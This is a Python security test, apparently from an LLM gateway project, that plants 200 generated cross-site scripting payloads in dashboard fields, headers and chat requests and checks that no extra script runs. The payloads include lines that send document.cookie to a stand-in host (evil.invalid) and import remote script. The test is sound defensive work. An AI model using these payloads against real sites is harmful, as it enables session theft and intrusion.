"""T50: whatever a prompt, a name, an error or a header says is text and nothing else."""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle, islice, product
from urllib.parse import quote

import httpx

from relay_gateway.testing.dashboard import Dashboard
from relay_gateway.testing.process import GatewayProcess

NUMBER = 200
CALLS = ("alert(1)", "fetch('//evil.invalid/'+document.cookie)", "import('//evil.invalid/x.js')")
SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "'><iframe srcdoc='<script>{}</script>'>",
    "</pre></title></textarea><script>{}</script>",
    '<a href="javascript:{}" autofocus onfocus={}>x</a>',
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<img src=//evil.invalid/p.png>{}",
    "![x](//evil.invalid/p.png){}",
    "[x](javascript:{})",
    "<style>@import '//evil.invalid/x.css'; /*{}*/</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>{}",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>{}",
    "<base href=//evil.invalid/>{}",
    "<form action=//evil.invalid/><button autofocus>{}</button></form>",
    "<object data=//evil.invalid/x>{}</object>",
    "<math><mi xlink:href='javascript:{}'>x",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<template><script>{}</script></template>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<!--><script>{}</script>-->",
    "\u202e<script>{}</script>\u2066",
    "<svg><use href='//evil.invalid/x.svg#a'/></svg>{}",
    "__proto__<img src=x onerror={}>",
    "<x contenteditable onblur={} tabindex=1 id=x>",
    "<input autofocus onfocus={}>",
    "</script><script>{}//",
    "<img srcset='//evil.invalid/p.png 2x' onload={}>",
    "<marquee onstart={}>",
    "<body onload={}>",
    "%3Cscript%3E{}%3C/script%3E",
)


def payloads() -> Iterator[str]:
    """Different texts that a page which is careless anywhere would run, load or send."""
    for place, (call, shape) in enumerate(product(CALLS, SHAPES)):
        yield shape.format(call, call)
        yield f"{place} {shape.format(call, call).upper()}"


async def test_t50_two_hundred_hostile_texts_do_nothing(
    operator: Dashboard, gateway: GatewayProcess, admin: httpx.AsyncClient
) -> None:
    texts = list(islice(payloads(), NUMBER))
    assert len(set(texts)) == NUMBER
    await admin.put("/settings/payload-logging", json={"enabled": True, "loggers": ["database"]})
    requests = await plant(gateway, admin, texts)
    await operator.open("/")
    for path in (
        "/?split=tag:t", "/logs", "/providers", "/policies", "/relay-keys", "/rate-limits",
        "/rate-limits?q=%3Cscript", "/audit", "/explain?model=" + quote(texts[0]),
        "/logs?q=" + quote(texts[2]), "/" + quote(texts[4], safe=""),
    ):  # fmt: skip
        await operator.go(path)
    for identity in requests:
        await operator.go(f"/logs/{identity}")
        await operator.page.locator("article.turn").first.wait_for()
        await operator.press("Plain text")
        await operator.page.locator("pre.body").first.wait_for()
    assert await operator.page.evaluate("document.querySelectorAll('script').length") == 2
    operator.misdeeds.judge()


async def plant(gateway: GatewayProcess, admin: httpx.AsyncClient, texts: list[str]) -> list[str]:
    """Puts every text wherever one may be said; gives ids of requests that say them."""
    more = cycle(texts)
    policy = (await admin.get("/policies/default")).json()["metadata"]["id"]
    for text in texts[:100]:
        metadata = {
            "displayName": text[:200],
            "description": next(more),
            "labels": {"l": text[:60]},
        }
        spec = {"rules": [{"meter": "requests", "amount": 1, "windowSeconds": 1}]}
        made = await admin.post("/rate-limits", json={"metadata": metadata, "spec": spec})
        assert made.status_code in {201, 422}, made.text
    key = {
        "metadata": {"displayName": texts[0]},
        "spec": {"policyId": policy, "payloadLogging": True},
    }
    made = await admin.post("/relay-keys", json=key)
    headers = {"authorization": f"Bearer {made.json()['plaintext']}"}
    found = []
    async with httpx.AsyncClient(
        base_url=gateway.inference_url, headers=headers, trust_env=False
    ) as client:
        for place, text in enumerate(texts):
            ascii_text = text.encode("ascii", "ignore").decode()
            own = {"user-agent": ascii_text, "x-relay-request-tags": json.dumps({"t": ascii_text})}
            said = text if place % 2 else "!echo " + json.dumps({"status": 500, "message": text})
            body = {
                "model": "echo" if place % 5 else text,
                "messages": [{"role": "user", "content": said}],
            }
            answer = await client.post("/v1/chat/completions", json=body, headers=own)
            if place % 25 in {1, 2}:
                found.append(answer.headers["x-relay-request-id"])
    return found
